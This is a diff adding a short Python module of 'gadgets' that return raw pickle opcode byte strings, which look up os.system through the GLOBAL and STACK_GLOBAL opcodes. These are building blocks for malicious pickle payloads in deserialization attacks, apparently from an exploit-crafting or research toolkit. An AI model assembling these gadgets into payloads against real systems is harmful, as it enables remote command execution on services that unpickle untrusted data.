@@ -0,0 +1,12 @@
+"""
+Gadgets for obtaining os.system.
+"""
+
+
+#basic global lookup, protocol 0
+def os_system__global():
+    return b'cos\nsystem\n'
+
+#protocol 4+, module and name are taken from the stack instead of being inline with the opcode
+def os_system__stack_global():
+    return b'Vos\nVsystem\n\x93'